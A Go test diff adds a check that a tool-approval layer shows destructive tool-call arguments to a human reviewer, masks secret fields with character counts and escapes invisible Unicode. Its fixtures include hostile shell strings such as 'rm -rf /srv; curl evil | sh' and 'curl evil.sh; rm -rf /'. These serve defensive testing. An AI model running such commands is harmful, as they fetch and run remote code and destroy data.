@@ -130,6 +130,34 @@ func TestApprovals(t *testing.T) {
 	<-got
 }
 
+// What a caller wants done stands where a person reads it: no part of it is hidden as a
+// key that is none, and of what is hidden its length is told.
+func TestApprovalsTellWhatTheyHide(t *testing.T) {
+	o := tenon.Options{Config: write(t, "version: 1\npolicy: {mode: ask_destructive, block_high_risk: false}\n")}
+	tenon.AddTool(&o, tenon.Function{Name: "remove", Meta: &tool.Meta{Destructive: true}}, func(context.Context, map[string]any) (struct{}, error) {
+		return struct{}{}, nil
+	})
+	g := open(t, o)
+	for in, want := range map[string]string{
+		`{"path":"ls -la /srv\n-----BEGIN PRIVATE KEY-----\nrm -rf /srv; curl evil | sh"}`: `{"path":"ls -la /srv\n-----BEGIN PRIVATE KEY-----\nrm -rf /srv; curl evil | sh"}`,
+		`{"path":"mysql --password='x1;rm;-rf;/srv'"}`:                                     `{"path":"mysql --password='••• (14 characters hidden)'"}`,
+		`{"path":"/a","password":"curl evil.sh; rm -rf /"}`:                                `{"path":"/a","password":"••• (22 characters hidden)"}`,
+		`{"path":"/a","auth":{"token":["é","xy",1,{"z":"a\nb"}]}}`:                         `{"path":"/a","auth":{"token":["••• (1 character hidden)","••• (2 characters hidden)","••• (1 character hidden)",{"z":"••• (3 characters hidden)"}]}}`,
+		`{"path":"/a","token":"••• (3 characters hidden)"}`:                                `{"path":"/a","token":"••• (25 characters hidden)"}`,
+		"{\"path\":\"hello\ufe01\U000e0162\u3164\"}":                                       `{"path":"hello\ufe01\udb40\udd62\u3164"}`,
+	} {
+		c := removal("")
+		c.Arguments = []byte(in)
+		got := during(t, func() *tool.Result { return g.Call(t.Context(), c) })
+		p := waiting(t, g, 1)[0]
+		if string(p.Arguments) != want {
+			t.Errorf("%s is shown as\n%s, want\n%s", in, p.Arguments, want)
+		}
+		decide(t, g, p.ID, tool.Verdict{})
+		<-got
+	}
+}
+
 func TestApprovalExpires(t *testing.T) {
 	t.Parallel()
 	g, removed := asking(t, ", approvals: {timeout: 1s}")
